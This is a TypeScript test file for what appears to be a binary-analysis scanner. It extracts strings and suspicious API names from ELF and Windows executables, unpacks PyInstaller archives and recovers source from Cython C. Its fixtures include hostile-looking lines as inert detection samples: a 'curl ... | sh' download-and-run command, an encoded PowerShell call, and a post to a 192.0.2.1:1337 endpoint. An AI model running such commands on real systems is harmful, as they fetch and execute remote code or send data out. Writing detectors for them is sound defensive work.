import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { cythonSource } from './cython.ts';
import { frozenScripts } from './frozen.ts';
import { readNative } from './native.ts';

const elf = (...texts: readonly string[]): Buffer =>
  Buffer.concat([
    Buffer.from('\x7fELF\x02\x01\x01'),
    Buffer.alloc(9),
    Buffer.from(`\0${texts.join('\0')}\0`),
  ]);

describe('texts of files for the machine', () => {
  test('addresses, commands and names that stand alone', () => {
    const read = readNative(
      elf('connect', 'reconnection', 'system', 'curl -s https://x.example/s | sh', '_popen', 'GLIBC_2.17'),
    );
    expect(read).toEqual({
      maker: null,
      texts: ['curl -s https://x.example/s | sh'],
      names: new Set(['connect', 'system', 'popen']),
    });
  });

  test('constants of Nuitka have a letter before them', () => {
    const read = readNative(elf('nuitka_module_loader', 'arequests', 'apost', 'uhttp://192.0.2.1:1337/in'));
    expect(read.maker).toBe('nuitka');
    expect(read.texts).toEqual(['uhttp://192.0.2.1:1337/in']);
    expect(read.names).toEqual(new Set(['requests', 'post']));
  });

  test('Cython writes its texts as one', () => {
    const read = readNative(elf('Shared Cython type %s', 'https://x.example/inenvirongetjsonurlopenvalues'));
    expect(read).toMatchObject({ maker: 'cython', names: new Set(['environ', 'urlopen']) });
  });

  test('Windows writes two bytes a character', () => {
    const wide = Buffer.from('powershell -enc AAAA', 'utf16le');
    const data = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), wide, Buffer.alloc(2)]);
    expect(readNative(data).texts).toEqual(['powershell -enc AAAA']);
  });

  test('a word is found wherever it stands, and at the very end', () => {
    for (let before = 0; before < 9; before++) {
      const gap = Buffer.alloc(before, 1);
      const [behind, last] = [Buffer.from('\0post\0\x01'), Buffer.from('\x01curl -s x.example')];
      const read = readNative(Buffer.concat([gap, behind, gap, last]));
      expect(read).toMatchObject({ texts: ['curl -s x.example'], names: new Set(['post']) });
      const wide = Buffer.from('curl -s x.example', 'utf16le');
      const windows = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2 * before, 1), wide]);
      expect(readNative(windows).texts).toEqual(['curl -s x.example']);
    }
  });

  test('long runs and many words stay small', () => {
    const data = Buffer.from('https://x.example '.repeat(200_000));
    const { texts } = readNative(data);
    expect(texts.length).toBe(400);
    expect(Math.max(...texts.map((text) => text.length))).toBeLessThanOrEqual(800);
  });

  test.each([
    ['nothing', Buffer.alloc(0)],
    ['zeros', Buffer.alloc(1000)],
    ['one byte', Buffer.from('M')],
  ])('%s says nothing', (_what, data) => {
    expect(readNative(data)).toEqual({ maker: null, texts: [], names: new Set() });
  });
});

const int32 = (value: number): Buffer => {
  const out = Buffer.alloc(4);
  out.writeUInt32BE(value);
  return out;
};

/** A program with an archive of PyInstaller behind it. */
function program(scripts: readonly (readonly [string, string, string])[]): Buffer {
  const parts = scripts.map(([, , code]) => deflateSync(code));
  const body = Buffer.concat(parts);
  let at = 0;
  const rows = scripts.map(([kind, name, code], index) => {
    const text = Buffer.from(`${name}\0`);
    const packed = parts[index]?.length ?? 0;
    const row = [
      int32(18 + text.length),
      int32(at),
      int32(packed),
      int32(code.length),
      Buffer.from(`\x01${kind}`),
      text,
    ];
    at += packed;
    return Buffer.concat(row);
  });
  const contents = Buffer.concat(rows);
  const size = body.length + contents.length + 88;
  return Buffer.concat([
    elf('a loader'),
    body,
    contents,
    Buffer.from('MEI\x0c\x0b\x0a\x0b\x0e', 'latin1'),
    ...[size, body.length, contents.length, 312].map(int32),
    Buffer.alloc(64),
    Buffer.from('a signature'),
  ]);
}

describe('programs of PyInstaller', () => {
  const whole = program([
    ['m', 'struct', 'not a script'],
    ['s', 'pyiboot01_bootstrap', 'its own'],
    ['s', 'payload', 'the code'],
  ]);

  test('give their scripts', () => {
    const found = frozenScripts(whole);
    expect(found.map(({ name, code }) => [name, Buffer.from(code).toString()])).toEqual([
      ['payload', 'the code'],
    ]);
  });

  test('that are broken give less', () => {
    for (let size = 0; size < whole.length; size++)
      expect(frozenScripts(whole.subarray(0, size)).length).toBeLessThan(2);
    for (let at = 0; at < whole.length; at++) {
      const changed = Buffer.from(whole);
      changed[at] = 0xff;
      expect(() => frozenScripts(changed)).not.toThrow();
    }
  });
});

describe('C of Cython', () => {
  const SOURCE = ['import os', 'def run():', "    os.system('id')", 'run()'];
  const comment = (line: number, file = 'own/core.pyx'): string => {
    const rows = SOURCE.map((row, index) => [index + 1, row] as const).filter(
      ([place]) => Math.abs(place - line) <= 2,
    );
    const body = rows.map(
      ([place, row]) => ` * ${row}${place === line ? '             # <<<<<<<<<<<<<<' : ''}\n`,
    );
    return `  /* "${file}":${line}\n${body.join('')} */\n  __pyx_t_1 = 0;\n`;
  };

  test('tells its source by its comments', () => {
    const text = `/* Generated by Cython 3.0.0 */\n${comment(1)}${comment(3)}${comment(4)}${comment(2, 'cpython/x.pxd')}`;
    expect(cythonSource(text)).toBe(`${SOURCE.join('\n')}\n`);
  });

  test.each([
    ['other C', `/* "own/core.pyx":1\n * import os # <<<<<<<<<<<<<<\n */`],
    ['no comment', '/* Generated by Cython 3.0.0 */\nint x;\n'],
  ])('%s is none', (_what, text) => {
    expect(cythonSource(text)).toBeNull();
  });
});
